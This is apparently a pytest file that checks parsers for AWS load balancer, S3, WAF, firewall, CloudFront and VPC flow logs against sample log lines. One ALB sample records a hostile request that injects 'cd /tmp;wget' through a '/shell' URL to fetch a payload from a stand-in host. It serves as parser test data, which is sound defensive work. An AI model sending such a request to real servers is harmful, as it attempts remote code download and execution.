"""The formats of the logs AWS writes to S3, field by field, on lines shaped like the documented
examples (and like real published records: a URL with a space, ``-1`` times, a trailing
``conn_trace_id``, an NLB line without ALPN, a connection-log failure, CloudFront ``000``)."""

from __future__ import annotations

import numpy as np
import pyarrow as pa
import pytest

from incidentkit import parse as parsers
from incidentkit.fetch.s3logs import LAYOUTS
from incidentkit.parse import registry
from incidentkit.parse.registry import load

ELB = "app/my-loadbalancer/50dc6c495c0c9188"
TG = "arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067"


def _parse(name: str, lines: list[str], **kw) -> list[dict]:
    parts = load(name).parse(pa.array(lines, type=pa.large_string()), np.arange(len(lines)), **kw)
    rows: list[dict] = [{} for _ in lines]
    for p in parts:
        for col, values in p.cols.items():
            for i, v in zip(p.idx, values.to_pylist()):
                rows[i][col] = v
    return rows


def test_the_s3_reader_loads_each_format_by_its_value():
    """The S3 reader (parse.batches) names a format by the value the layouts of
    fetch.s3logs give: that is the format's registry entry, and its module writes it."""
    for name in {lay.format for lay in LAYOUTS.values()}:
        assert name in registry.FORMATS and load(name).NAME == name


CASES = {
    "alb_access": [
        (f'h2 2024-11-01T10:00:01.100000Z {ELB} 198.51.100.7:41000 10.0.0.66:9000 0.000 -1 -1 504 - 120 300 '
         f'"POST https://api.example.com:443/v1/pay?x=1 HTTP/2.0" "okhttp/4.9" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 {TG} '
         f'"Root=1-67891233-abcdef012345678912345678" "api.example.com" "arn:aws:acm:us-east-2:123456789012:certificate/1" 2 '
         f'2024-11-01T09:59:56.000000Z "forward" "-" "TargetResponseTimeout" "10.0.0.66:9000" "-" "-" "-" TID_9f8e',
         {"status": 504, "target_status": None, "latency_ms": None, "target": "10.0.0.66:9000", "error_reason": "TargetResponseTimeout",
          "method": "POST", "route": "/v1/pay", "client_ip": "198.51.100.7", "src_port": 41000, "protocol": "h2", "rule": "2",
          "domain": "api.example.com", "conn_trace_id": "TID_9f8e", "xray_trace_id": "1-67891233-abcdef012345678912345678",
          "_time_str": "2024-11-01T10:00:01.100000Z", "parse_error": False}),
        (f'http 2022-05-12T06:41:29.051646Z {ELB} 192.0.2.20:41542 - -1 -1 -1 301 - 233 390 '
         f'"GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/x HTTP/1.1" "Hello, world" - - - "Root=1-627cac19-4c6df30820daa80e3fd72ced" '
         f'"-" "-" 0 2022-05-12T06:41:29.051000Z "redirect" "https://127.0.0.1:443/shell" "-" "-" "-" "Acceptable" "SpaceInUri"',
         {"status": 301, "method": "GET", "route": "/shell", "latency_ms": None, "target": None, "classification": "Acceptable",
          "classification_reason": "SpaceInUri", "action": "redirect", "parse_error": False}),
    ],
    "elb_classic_access": [
        ('2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.001069 0.000028 0.000041 - - 82 305 '
         '"- - - " "-" ECDHE-ECDSA-AES128-GCM-SHA256 TLSv1.2',
         {"status": None, "target": "10.0.0.1:80", "method": None, "protocol": "tcp", "tls_protocol": "TLSv1.2", "bytes_sent": 305,
          "parse_error": False}),
        ('2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 - -1 -1 -1 503 0 0 0 "GET http://www.example.com:80/ HTTP/1.1" "-" - -',
         {"status": 503, "target_status": 0, "latency_ms": None, "target": None, "route": "/", "domain": "www.example.com"}),
    ],
    "nlb_access": [
        ('tls 2.0 2018-12-20T02:59:40 net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd 72.21.218.154:51341 '
         '172.100.100.185:443 5 2 98 246 - arn:aws:acm:us-east-2:671290407336:certificate/2a108f19 - ECDHE-RSA-AES128-SHA tlsv12 - '
         'my-network-loadbalancer-c6e77e28c25b2234.elb.us-east-2.amazonaws.com - - - 2018-12-20T02:59:30',
         {"client_ip": "72.21.218.154", "src_port": 51341, "dst_ip": "172.100.100.185", "dst_port": 443, "connection_ms": 5.0,
          "handshake_ms": 2.0, "bytes_received": 98, "bytes_sent": 246, "tls_cipher": "ECDHE-RSA-AES128-SHA", "parse_error": False}),
        ('tls 2.0 2024-10-25T17:33:59 net/nlb-x/c88927aafc9abafe 52878890095341b5 192.0.2.9:2817 10.0.0.1:80 0 - 0 0 - - - - - - - - - - 2024-10-25T17:33:59',
         {"handshake_ms": None, "connection_ms": 0.0, "parse_error": False}),
    ],
    "alb_connection": [
        ('2023-10-04T17:50:50.478853Z 192.0.2.1 45678 443 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 4 "CN=example.com,O=endEntity,L=Seattle,ST=Washington,C=US" '
         'NotBefore=2023-09-21T22:43:21Z;NotAfter=2026-06-17T22:43:21Z FEF257372D5C14D4 Success',
         {"record_type": "success", "client_ip": "192.0.2.1", "src_port": 45678, "dst_port": 443, "handshake_ms": 4000.0, "error_reason": None}),
        ('2024-11-29T13:45:24.599544Z 172.31.43.26 58206 80 - - - "-" - - - TID_16132ed0b4112148',
         {"record_type": "connection", "dst_port": 80, "tls_protocol": None, "conn_trace_id": "TID_16132ed0b4112148", "parse_error": False}),
    ],
    "s3_access": [
        ('79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be amzn-s3-demo-bucket1 [06/Feb/2019:00:00:38 +0000] '
         '192.0.2.3 79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be A1206F460EXAMPLE REST.GET.OBJECT photos/a.jpg '
         '"GET /photos/a.jpg HTTP/1.1" 503 SlowDown 342 - 12 - "-" "aws-sdk-java/1.12" -',
         {"status": 503, "error_type": "SlowDown", "operation": "REST.GET.OBJECT", "latency_ms": 12.0, "route": "/photos/a.jpg",
          "service": "amzn-s3-demo-bucket1", "request_id": "A1206F460EXAMPLE", "_time_num": 1549411238000.0, "parse_error": False}),
    ],
    "waf": [
        ('{"timestamp":1592361810888,"formatVersion":1,"webaclId":"arn:aws:wafv2:us-east-1:123456789012:global/webacl/hello-world/5933d6d9",'
         '"terminatingRuleId":"RG-Reference","terminatingRuleType":"GROUP","action":"BLOCK","httpSourceName":"CF",'
         '"httpRequest":{"clientIp":"198.51.100.2","country":"US","headers":[{"name":"Host","value":"www.example.com"},'
         '{"name":"user-agent","value":"curl/8"}],"uri":"/login","args":"","httpVersion":"HTTP/1.1","httpMethod":"POST","requestId":"rid-1"}}',
         {"record_type": "block", "action": "BLOCK", "rule": "RG-Reference", "client_ip": "198.51.100.2", "country": "US", "route": "/login",
          "method": "POST", "domain": "www.example.com", "user_agent": "curl/8", "_time_num": 1592361810888.0, "parse_error": False}),
    ],
    "network_firewall": [
        ('{"firewall_name":"fw","availability_zone":"us-east-2a","event_timestamp":"1636395643","event":{"timestamp":"2021-11-08T18:20:43.324542+0000",'
         '"flow_id":625409144331688,"event_type":"netflow","src_ip":"203.0.113.61","src_port":61953,"dest_ip":"198.51.100.156","dest_port":5060,'
         '"proto":"TCP","netflow":{"pkts":1,"bytes":40,"start":"2021-11-08T18:18:11.990632+0000","end":"2021-11-08T18:18:11.990632+0000","age":0}}}',
         {"record_type": "netflow", "packets": 1, "bytes": 40, "protocol": "tcp", "dst_port": 5060, "service": "fw", "parse_error": False}),
    ],
}


@pytest.mark.parametrize("name", sorted(CASES))
def test_fields_of_documented_examples(name):
    lines = [ln for ln, _ in CASES[name]]
    for row, (_, want) in zip(_parse(name, lines), CASES[name]):
        assert row["format"] == name
        for field, value in want.items():
            assert row.get(field) == value, (name, field, row.get(field), value)


def test_cloudfront_legacy_header_v2_fields_and_json():
    legacy = "\t".join(["2019-12-13", "22:36:26", "SEA19-C1", "900", "192.0.2.100", "GET", "d111111abcdef8.cloudfront.net", "/", "000", "-",
                        "curl/7.55.1", "-", "-", "Error", "3AqrZGCnF_g0==", "www.example.com", "http", "735", "0.107", "-", "-", "-", "Error",
                        "HTTP/1.1", "-", "-", "3802", "0.107", "OriginDnsError", "text/html", "507", "-", "-"])
    v2 = ["#Version: 1.0", "#Fields: timestamp(ms) c-ip sc-status time-taken cs-uri-stem x-edge-result-type x-edge-detailed-result-type",
          "1733000000123\t198.51.100.1\t504\t30.002\t/slow\tError\tOriginCommError"]
    js = '{"timestamp(ms)":"1733000000500","DistributionId":"E1ABC","c-ip":"198.51.100.3","sc-status":"200","time-taken":"0.010","cs-uri-stem":"/"}'
    rows = _parse("cloudfront_access", [legacy, *v2, js])
    assert rows[0]["status"] is None and rows[0]["error_reason"] == "ClientClosed" and rows[0]["latency_ms"] == pytest.approx(107.0)
    assert rows[0]["_time_str"] == "2019-12-13T22:36:26" and rows[0]["domain"] == "www.example.com"
    assert [rows[i]["record_type"] for i in (1, 2)] == ["header", "header"]
    assert rows[3]["status"] == 504 and rows[3]["error_reason"] == "OriginCommError" and rows[3]["_time_num"] == 1733000000123.0
    assert rows[4]["service"] == "E1ABC" and rows[4]["status"] == 200 and not rows[4]["parse_error"]


def test_vpc_flow_versions_and_log_format():
    v5 = ("5 123456789012 eni-069abc 198.51.100.156 10.200.0.80 50041 33004 17 52 1 1640000066 1640000297 REJECT OK vpc-0967 subnet-02d6 "
          "i-0a1b 1 IPv4 198.51.100.156 10.200.0.80 us-east-1 use1-az5 - - AMAZON CLOUDFRONT ingress 1")
    from incidentkit.parse.formats.vpc_flow import FIELDS
    names = [f for f, v in FIELDS if v in ("2", "3", "4", "5")]
    [row] = _parse("vpc_flow", [v5], fields=" ".join(names))
    assert (row["protocol"], row["vpc_id"], row["instance_id"], row["tcp_flags"], row["location"], row["flow_direction"]) == (
        "udp", "vpc-0967", "i-0a1b", 1, "use1-az5", "ingress")
    [row] = _parse("vpc_flow", ["2 123456789010 eni-1235b8ca123456789 - - - - - - - 1431280876 1431280934 - NODATA"])
    assert row["record_type"] == "nodata" and row["error_reason"] == "NODATA" and not row["parse_error"]
    [row] = _parse("vpc_flow", ["7 10.0.0.1"], fields="${version} ${srcaddr} ${dstaddr}")
    assert row["parse_error"]


def test_parsers_parse_recognises_each_format_by_its_line():
    lines = {name: CASES[name][0][0] for name in CASES}
    df = parsers.parse(list(lines.values()))
    assert df["format"].tolist() == list(lines) and not df["parse_error"].any()
